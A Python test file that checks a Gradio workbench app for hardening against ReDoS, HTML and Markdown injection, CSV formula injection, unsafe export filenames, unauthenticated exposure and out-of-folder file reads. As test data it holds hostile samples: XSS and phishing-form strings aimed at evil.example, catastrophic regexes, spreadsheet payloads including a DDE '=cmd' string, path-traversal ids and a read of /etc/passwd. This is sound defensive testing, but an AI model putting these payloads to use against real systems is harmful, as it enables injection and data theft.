"""The app against hostile and careless input (issue 12, items 1, 4, 9 and 10).

- a regular expression typed into Compare's search is stopped within a second, and other users are served meanwhile;
- text from data files (topic, difficulty, id, column names in error messages) is shown, never rendered as HTML or
  Markdown links and images;
- exports: any problem id gives a file whose name says where it went; CSV cells cannot start a spreadsheet formula;
- exposure: binding anything but loopback, or sharing, needs --auth (or an explicit --no-auth); data loading from the
  UI reads only the folders the operator allows.

Handlers are driven without a browser, as `demo.fns` holds them (the same functions the events call).
"""

from __future__ import annotations

import argparse
import csv
import html
import io
import json
import os
import re
import threading
import time
from pathlib import Path

import pandas as pd
import pytest

from workbench import compare, viz
from workbench.errors import WorkbenchError

HOSTILE = {
    "img": "<img src=x onerror=alert(1)>",
    "link": "[click here](http://evil.example/phish)",
    "image": "![pixel](http://evil.example/pixel.png)",
    "form": '<form action="http://evil.example/steal"><input type="password" name="pw"><button>log in</button></form>',
    "autolink": "<http://evil.example/auto>",
    "entity": "&lt;img src=x onerror=alert(2)&gt;",
}


def _problem(pid="p1", question="What is 2+2?", **meta):
    return {"id": pid, "question": question, "solution": "4", "sources": {"rlt": "Add two and two.\n\nIt is 4."},
            "completions": {}, "meta": meta}


def write_jsonl(path, rows):
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


# ---------------------------------------------------------------------------------------------- app fixtures


@pytest.fixture(scope="module")
def models():
    return compare.SharedModels(device="cpu")


@pytest.fixture(scope="module")
def app_module():
    pytest.importorskip("gradio")
    import app

    return app


def handler(demo, name):
    """The function an event of the app calls, by its name (the first one: several events share a handler)."""
    for fn in demo.fns.values():
        if fn.name == name:
            return fn.fn
    raise KeyError(name)


def build(app_module, models, **kw):
    return app_module.build_app(models=models, **kw)


@pytest.fixture(scope="module")
def demo(app_module, models):
    return build(app_module, models)


# ---------------------------------------------------------------------------------------------- item 1: ReDoS


def _run_with_deadline(fn, seconds):
    """Run fn in a daemon thread; (finished, result or exception, elapsed). A hung search does not hang the suite."""
    box = {}

    def target():
        t0 = time.perf_counter()
        try:
            box["result"] = fn()
        except BaseException as exc:  # noqa: BLE001 - handed back to the test
            box["result"] = exc
        box["elapsed"] = time.perf_counter() - t0

    th = threading.Thread(target=target, daemon=True)
    th.start()
    th.join(seconds)
    return (not th.is_alive()), box.get("result"), box.get("elapsed")


def test_catastrophic_regex_is_stopped_within_a_second():
    probs = [_problem("p1", "a" * 40), _problem("p2", "b" * 40)]
    done, result, elapsed = _run_with_deadline(lambda: compare.search_problems(probs, "(a|aa)+c", regex=True), 8)
    assert done, "the search was still running after 8 s"
    assert isinstance(result, WorkbenchError), result
    assert "took too long" in str(result) and elapsed < 1.6, (str(result), elapsed)


def test_issue_probe_regex_on_the_demo_set_finishes():
    from workbench import data

    probs = data.demo_problems()
    done, result, elapsed = _run_with_deadline(
        lambda: compare.search_problems(probs, "(.*)*#", regex=True, fields=("question", "solution", "sources")), 8)
    assert done and elapsed < 1.6, elapsed
    assert isinstance(result, (set, WorkbenchError))


def test_other_threads_are_served_while_a_regex_runs():
    """The match releases the GIL: a thread that ticks every 10 ms keeps ticking while the bad search runs."""
    probs = [_problem(f"p{i}", "a" * 40) for i in range(3)]
    ticks, stop = [], threading.Event()

    def ticker():
        while not stop.is_set():
            ticks.append(time.perf_counter())
            time.sleep(0.01)

    th = threading.Thread(target=ticker, daemon=True)
    th.start()
    try:
        done, result, elapsed = _run_with_deadline(lambda: compare.search_problems(probs, "(a|aa)+c", regex=True), 8)
    finally:
        stop.set()
        th.join(2)
    assert done and isinstance(result, WorkbenchError), result
    gaps = [b - a for a, b in zip(ticks, ticks[1:])]
    assert len(ticks) > 20 and max(gaps) < 0.5, (len(ticks), max(gaps, default=None))


def test_regex_that_would_exhaust_memory_when_compiled_is_refused():
    probs = [_problem("p1", "x" * 10)]
    done, result, elapsed = _run_with_deadline(
        lambda: compare.search_problems(probs, "(?:x{100}){65535}", regex=True), 8)
    assert done and isinstance(result, WorkbenchError), result
    assert "repeat" in str(result) and elapsed < 1.0
    with pytest.raises(WorkbenchError, match="too long"):
        compare.search_problems(probs, "x" * 5000, regex=True)


def test_ordinary_searches_still_work():
    probs = [_problem("p1", "Solve 3(x - 4) = 6"), _problem("p2", "Compute 2+2")]
    assert compare.search_problems(probs, r"3\(x", regex=True) == {"p1"}
    assert compare.search_problems(probs, r"\d{4}-\d{2}|compute", regex=True) == {"p2"}
    assert compare.search_problems(probs, "(.*)*#", regex=True) == set()
    assert compare.search_problems(probs, "(a|aa)+c", regex=False) == set()  # plain text: a substring, never a pattern
    with pytest.raises(WorkbenchError, match="bad regular expression"):
        compare.search_problems(probs, "(", regex=True)


def test_the_app_shows_the_timeout_as_a_message(demo):
    on_filter = handler(demo, "on_filter")
    probs = [_problem("p1", "a" * 40)]
    done, result, elapsed = _run_with_deadline(
        lambda: on_filter(probs, "smollm2-135m", "smollm2-135m", "(a|aa)+c", True, ["question"], None, "", "", None,
                          True), 8)
    assert done and elapsed < 3, "the filter was still running after 8 s"
    table, msg = result
    assert "took too long" in msg and "wb-error" in msg


# ---------------------------------------------------------------------------------------------- item 4: HTML


def _render(markdown_text: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).render(markdown_text)


def test_markdown_text_escapes_html_and_markdown():
    for name, value in HOSTILE.items():
        md = viz.escape_markdown_text(value)
        out = _render(md)
        for tag in ("<img", "<a ", "<form", "<input", "<button"):
            assert tag not in out, (name, md, out)
    assert "&amp;lt;img" in _render(viz.escape_markdown_text(HOSTILE["entity"]))  # an entity stays text
    # legitimate topics read as before
    for topic in ("algebra", "number theory", "Geometry & Trigonometry", "calc_2 (hard)", "easy", "1. level", "*x*"):
        out = _render(viz.escape_markdown_text(topic))
        assert html.unescape(re.sub(r"<[^>]+>", "", out)).strip() == topic, (topic, out)


@pytest.mark.parametrize("name", list(HOSTILE))
def test_problem_column_renders_no_tag_from_topic_difficulty_or_id(demo, name):
    on_view = handler(demo, "on_view")
    value = HOSTILE[name]
    p = _problem("id " + value, topic=value, difficulty=value)
    problem_md = on_view([p], p["id"], 0.5, "smollm2-135m", "smollm2-135m")[0]
    out = _render(problem_md)
    for tag in ("<img", "<a ", "<form", "<input", "<button"):
        assert tag not in out, (name, problem_md, out)
    assert "topic:" in out and "difficulty:" in out


def test_problem_column_keeps_a_plain_topic_readable(demo):
    on_view = handler(demo, "on_view")
    p = _problem("algebra-01", topic="algebra", difficulty="easy")
    problem_md = on_view([p], p["id"], 0.5, "smollm2-135m", "smollm2-135m")[0]
    assert "topic: algebra · difficulty: easy" in problem_md
    out = _render(problem_md)
    assert "<h3>algebra-01</h3>" in out and "<p>topic: algebra · difficulty: easy</p>" in out, out


def test_error_toasts_do_not_render_html_from_a_bad_files_column_names(app_module, models, tmp_path, monkeypatch):
    import gradio as gr

    shown = []
    monkeypatch.setattr(gr, "Warning", lambda message="", *a, **k: shown.append(message))
    bad = write_jsonl(tmp_path / "bad.jsonl", [{HOSTILE["img"]: "q", HOSTILE["form"]: "s"}])
    demo = build(app_module, models, allow_dirs=[str(tmp_path)])
    out = handler(demo, "on_load")(str(bad), None, "smollm2-135m", "smollm2-135m", "base")
    assert shown, "no warning toast"
    for message in shown + [out[-1]]:
        assert "<img" not in message and "<form" not in message and "<input" not in message, message
    assert "&lt;img" in shown[0] and "bad.jsonl" in shown[0]
    # the explanation upload too
    shown.clear()
    out = handler(demo, "on_join")([_problem()], str(bad), "", "smollm2-135m", "smollm2-135m", "base")
    assert shown and all("<img" not in m and "<form" not in m for m in shown + [out[-1]]), shown


# ---------------------------------------------------------------------------------------------- item 9: exports


def _fake_result():
    from workbench.rewards import RewardResult

    return RewardResult(id="x", reward=-1.0, r_ss=-0.5, r_kl=0.5, solution_logprob_mean=-0.5, solution_logprob_min=-1.0,
                        kl_mean=0.1, kl_max=0.3, solution_tokens=[{"token": "4", "logprob": -0.5}],
                        explanation_tokens=[{"token": "Add", "teacher_logprob": -1.0, "student_logprob": -1.2,
                                             "kl": 0.2}]).to_dict()


@pytest.mark.parametrize("pid", ["a/b", "../../etc/x", "con:lpt1?*<>|\"", "x" * 400, "..", "é/ü"])
def test_heatmap_export_works_for_any_problem_id_and_says_where(app_module, models, tmp_path, monkeypatch, pid):
    import gradio as gr

    infos = []
    monkeypatch.setattr(gr, "Info", lambda message="", *a, **k: infos.append(message))
    export_dir = tmp_path / "exports"
    export_dir.mkdir()
    p = _problem(pid)
    demo = build(app_module, models, problems=[p], export_dir=str(export_dir))
    st = {"pid": pid, "source": "rlt", "text": "Add.", "label": "RLT explanation", "result": _fake_result()}
    out = handler(demo, "on_export_heatmap")([p], st, "kl", 0, "logprob")
    path = Path(out["value"])
    assert path.is_file() and path.parent == export_dir, path
    assert path.suffix == ".html" and len(path.name) < 200 and "/" not in path.name
    assert path.name in out.get("label", "") or any(path.name in m for m in infos), (out, infos)
    assert "Add" in path.read_text(encoding="utf-8")


def test_two_exports_in_the_same_second_do_not_overwrite_each_other(tmp_path):
    a = viz.export_path(tmp_path, "rlt-heatmap", "a/b", ".html")
    a.write_text("A")
    b = viz.export_path(tmp_path, "rlt-heatmap", "a/b", ".html")
    assert a != b and a.parent == b.parent == tmp_path


FORMULAS = ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]


def test_csv_cells_cannot_start_a_formula():
    df = pd.DataFrame({"id": FORMULAS + ["plain", "a=b"], "score": [-1.5] * len(FORMULAS) + [2.0, None],
                       "=HYPERLINK(1) tokens": list(range(len(FORMULAS) + 2))})
    rows = list(csv.reader(io.StringIO(compare.table_to_csv(df))))
    head, body = rows[0], rows[1:]
    assert head == ["id", "score", "'=HYPERLINK(1) tokens"]
    for cell, original in zip((r[0] for r in body), FORMULAS + ["plain", "a=b"]):
        if original[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert cell == "'" + original, (cell, original)
        else:
            assert cell == original
    assert body[0][1] == "-1.5" and body[-1][1] == ""  # numbers stay numbers


def test_app_csv_export_escapes_ids_and_topics(app_module, models, tmp_path):
    export_dir = tmp_path / "exports"
    export_dir.mkdir()
    probs = [_problem("=HYPERLINK(\"http://evil.example\")", topic="@SUM(A1)"), _problem("ok")]
    demo = build(app_module, models, problems=probs, export_dir=str(export_dir))
    paths = handler(demo, "on_export")(probs, "smollm2-135m", "smollm2-135m")
    csvs = [Path(p) for p in paths if p.endswith(".csv")]
    assert len(csvs) == 2
    for path in csvs:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for cell in row:
                assert cell[:1] not in ("=", "+", "@", "\t", "\r"), (path.name, cell)


# ---------------------------------------------------------------------------------------------- item 10: exposure


def _args(**kw):
    base = {"host": "127.0.0.1", "share": False, "auth": None, "no_auth": False}
    return argparse.Namespace(**{**base, **kw})


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "::1", "127.0.0.2"])
def test_loopback_needs_no_auth(app_module, host):
    assert app_module.exposure_warning(_args(host=host)) is None


@pytest.mark.parametrize("kw", [{"host": "0.0.0.0"}, {"host": "::"}, {"host": "192.168.1.5"}, {"host": "my-box"},
                                {"share": True}, {"host": ""}])
def test_exposed_without_auth_is_refused_with_a_clear_message(app_module, kw):
    with pytest.raises(WorkbenchError) as err:
        app_module.exposure_warning(_args(**kw))
    msg = str(err.value)
    assert "--auth USER:PASS" in msg and "--no-auth" in msg, msg
    assert app_module.exposure_warning(_args(**kw, auth="u:p")) is None
    warning = app_module.exposure_warning(_args(**kw, no_auth=True))
    assert warning and "without a password" in warning.lower() and "--no-auth" in warning


def test_cli_refuses_to_expose_the_app_without_auth_before_loading_anything(capsys, monkeypatch):
    from workbench import cli

    loaded = []
    monkeypatch.setattr(compare.SharedModels, "scorer", lambda *a, **k: loaded.append(a))
    assert cli.main(["app", "--host", "0.0.0.0"]) == 2
    err = capsys.readouterr().err
    assert "--auth" in err and "--no-auth" in err and not loaded
    assert cli.main(["app", "--share"]) == 2


def test_cli_app_security_flags():
    from workbench.cli import build_parser

    args = build_parser().parse_args(["app"])
    assert args.no_auth is False and args.allow_dirs == []
    args = build_parser().parse_args(["app", "--host", "0.0.0.0", "--no-auth", "--allow-dir", "/data",
                                      "--allow-dir", "more"])
    assert args.no_auth is True and args.allow_dirs == ["/data", "more"]


@pytest.fixture()
def outside(tmp_path):
    """A valid problem file in a folder the app was not told about."""
    d = tmp_path / "outside"
    d.mkdir()
    return write_jsonl(d / "secret.jsonl", [{"question": "the secret question", "solution": "s"}])


def _refused(msg, allowed):
    return "not in a folder this app may read" in msg and all(str(a) in msg for a in allowed)


def test_loading_a_file_outside_the_allowed_folders_is_refused(app_module, models, outside, tmp_path, monkeypatch):
    import gradio as gr

    monkeypatch.setattr(gr, "Warning", lambda *a, **k: None)
    allowed = tmp_path / "allowed"
    allowed.mkdir()
    write_jsonl(allowed / "ok.jsonl", [{"question": "fine", "solution": "s"}])
    os.symlink(outside, allowed / "link.jsonl")
    demo = build(app_module, models, allow_dirs=[str(allowed)])
    on_load = handler(demo, "on_load")
    for spec in (str(outside), str(allowed / ".." / "outside" / "secret.jsonl"), str(allowed / "link.jsonl"),
                 "/etc/passwd", "~/secret.jsonl"):
        out = on_load(spec, None, "smollm2-135m", "smollm2-135m", "base")
        assert out[0] is not None and not isinstance(out[0], list), (spec, out[0])  # problems unchanged (a skip)
        assert _refused(out[-1], [allowed]), (spec, out[-1])
        assert "--allow-dir" in out[-1] and "secret question" not in out[-1]
    # the same file through the upload control (a path the client names) is refused as well
    out = on_load("demo", str(outside), "smollm2-135m", "smollm2-135m", "base")
    assert _refused(out[-1], [allowed])
    out = handler(demo, "on_join")([_problem()], str(outside), "", "smollm2-135m", "smollm2-135m", "base")
    assert _refused(out[-1], [allowed])
    # inside: loads; demo and hub ids are not paths
    new = on_load(str(allowed / "ok.jsonl"), None, "smollm2-135m", "smollm2-135m", "base")[0]
    assert [p["question"] for p in new] == ["fine"]
    assert len(on_load("demo", None, "smollm2-135m", "smollm2-135m", "base")[0]) >= 10
    out = on_load("nobody-here/no-such-dataset", None, "smollm2-135m", "smollm2-135m", "base")
    assert "could not load the hub dataset" in out[-1]


def test_default_allowed_folders_are_the_working_directory_and_uploads(app_module, models, outside, tmp_path,
                                                                      monkeypatch):
    import gradio as gr
    from gradio.utils import get_upload_folder

    monkeypatch.setattr(gr, "Warning", lambda *a, **k: None)
    work = tmp_path / "work"
    work.mkdir()
    write_jsonl(work / "here.jsonl", [{"question": "here", "solution": "s"}])
    monkeypatch.chdir(work)
    demo = build(app_module, models)
    on_load = handler(demo, "on_load")
    assert on_load("here.jsonl", None, "smollm2-135m", "smollm2-135m", "base")[0][0]["question"] == "here"
    out = on_load(str(outside), None, "smollm2-135m", "smollm2-135m", "base")
    assert _refused(out[-1], [work, Path(get_upload_folder())])
    uploads = Path(get_upload_folder()) / "wb-test-upload"
    uploads.mkdir(parents=True, exist_ok=True)
    try:
        up = write_jsonl(uploads / "up.jsonl", [{"question": "uploaded", "solution": "s"}])
        assert on_load("demo", str(up), "smollm2-135m", "smollm2-135m", "base")[0][0]["question"] == "uploaded"
    finally:
        for f in uploads.iterdir():
            f.unlink()
        uploads.rmdir()


def test_the_operators_data_file_stays_loadable(app_module, models, outside):
    demo = build(app_module, models, data_spec=str(outside), allow_dirs=[])
    new = handler(demo, "on_load")(str(outside), None, "smollm2-135m", "smollm2-135m", "base")[0]
    assert [p["question"] for p in new] == ["the secret question"]


def test_evaluate_data_outside_the_allowed_folders_is_refused(app_module, models, outside, tmp_path, monkeypatch):
    monkeypatch.setenv("RLT_WORKBENCH_HOME", str(tmp_path / "home"))
    from workbench.eval import views

    submitted = []
    monkeypatch.setattr(views, "launch", lambda *a, **k: submitted.append(a))
    allowed = tmp_path / "allowed"
    allowed.mkdir()
    demo = build(app_module, models, allow_dirs=[str(allowed)])
    launch = handler(demo, "ev_launch_job")
    msg, _ = launch("smollm2-135m", "countdown", views.DEFAULT_PRESET, 2, 0, 0, "", str(outside), 8, "auto")
    assert _refused(msg, [allowed]) and not submitted, msg


# ---------------------------------------------------------------------------------------------- item 5: app --data


def test_app_starts_on_a_data_file_with_bad_lines_and_names_them(app_module, models, tmp_path, monkeypatch):
    """`workbench app --data FILE`: a line nested 1,000 deep or with a wrong type no longer stops the app; the good
    problems load and the start-up status names the skipped lines."""
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "mixed.jsonl"
    path.write_text(json.dumps({"id": "ok", "question": "What is 2+2?", "solution": "4"}) + "\n" + "[" * 1000
                    + "]" * 1000 + "\n" + json.dumps({"question": "Q", "solution": ["4"]}) + "\n", encoding="utf-8")
    demo = build(app_module, models, data_spec=str(path))
    status = next(b for b in demo.blocks.values() if getattr(b, "elem_id", None) == "wb-status").value
    assert "1 problems from" in status and "skipped 2 of 3 rows" in status
    assert "line 2, column 1: not readable (nested too deeply)" in status
    assert "column &#x27;solution&#x27;: expected text, got an array" in status
